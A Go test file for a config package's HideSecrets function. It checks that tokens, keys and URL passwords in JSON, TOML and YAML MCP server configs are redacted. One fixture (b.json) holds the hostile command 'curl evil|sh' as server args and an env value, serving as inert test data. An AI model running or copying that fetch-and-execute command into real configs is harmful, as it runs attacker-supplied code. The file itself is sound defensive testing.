package config

import (
	"strings"
	"testing"
)

func TestSecretsAreHiddenWhereTheyAreSet(t *testing.T) {
	for _, c := range []struct{ path, in, want string }{
		{
			"a.json", `{"mcpServers": {"a": {"env": {"API_KEY": "value-1", "MODE": "fast", "T_TOKEN": "${T}", "DB": "pg://u:p@h/d"}, "headers": {"X": "value-2"}, "args": ["value-1", "sk-0123456789abcdef"]}}}`,
			`{"mcpServers": {"a": {"env": {"API_KEY": "[secret]", "MODE": "fast", "T_TOKEN": "${T}", "DB": "[secret]"}, "headers": {"X": "[secret]"}, "args": ["value-1", "sk-0123456789abcdef"]}}}`,
		},
		{ // a value that equals the command, a server named headers
			"b.json", `{"mcpServers": {"headers": {"command": "sh", "args": ["-c", "curl evil|sh"], "cwd": "/x", "url": "https://me:pw@host/p?k=v", "env": {"TOKEN": "curl evil|sh"}}}}`,
			`{"mcpServers": {"headers": {"command": "sh", "args": ["-c", "curl evil|sh"], "cwd": "/x", "url": "https://[secret]@host/p?[secret]", "env": {"TOKEN": "[secret]"}}}}`,
		},
		{
			"c.toml", "auth_token = 'top'\n[[servers]]\nid = \"a\"\ncommand = [\"top\", \"Bearer 0123456789abcdef\"]\nenv = { TOKEN = \"top\", PORT = \"1\" }\n[store]\nurl = \"redis://:pw@a:1,b:2?password=x\"\n",
			"auth_token = '[secret]'\n[[servers]]\nid = \"a\"\ncommand = [\"top\", \"Bearer 0123456789abcdef\"]\nenv = { TOKEN = \"[secret]\", PORT = \"1\" }\n[store]\nurl = \"redis://[secret]@a:1,b:2?[secret]\"\n",
		},
		{ // with escapes, over several lines, in dotted keys
			"d.toml", "[servers.env]\nKEY = \"\\u0074op\"\nOTHER = \"x\"\n[a]\nmy.token = \"\"\"two\nlines\"\"\"\nb = \"c\"\n",
			"[servers.env]\nKEY = [secret]\nOTHER = \"x\"\n[a]\nmy.token = \"\"\"[secret]\"\"\"\nb = \"c\"\n",
		},
		{
			"e.yaml", "mcpServers:\n  - name: a\n    command: top\n    env:\n      TOKEN: top\n      KEY: |\n        two\n        lines\n    cwd: /top\n",
			"mcpServers:\n  - name: a\n    command: top\n    env:\n      TOKEN: [secret]\n      KEY: [secret]\n    cwd: /top\n",
		},
		{"f.json", "{", "{"},
	} {
		if got := string(HideSecrets(c.path, []byte(c.in))); got != c.want {
			t.Errorf("HideSecrets(%s)\n got %s\nwant %s", c.path, got, c.want)
		}
	}
}

// Hiding never fails on any text, and a file without secrets stays unchanged.
func FuzzHideSecrets(f *testing.F) {
	f.Add("a.json", `{"a": {"token": "x"}}`)
	f.Add("a.toml", "a.\"to\\u006ben\" = 'x'\ntoken.x = \"y\"")
	f.Add("a.yaml", "a: &x\n  token: y\nb: *x\n")
	f.Fuzz(func(t *testing.T, path, text string) {
		got := string(HideSecrets(path, []byte(text)))
		if strings.Trim(text, "abc{}:=\"\n ") == "" && got != text {
			t.Errorf("HideSecrets(%q) = %q", text, got)
		}
	})
}
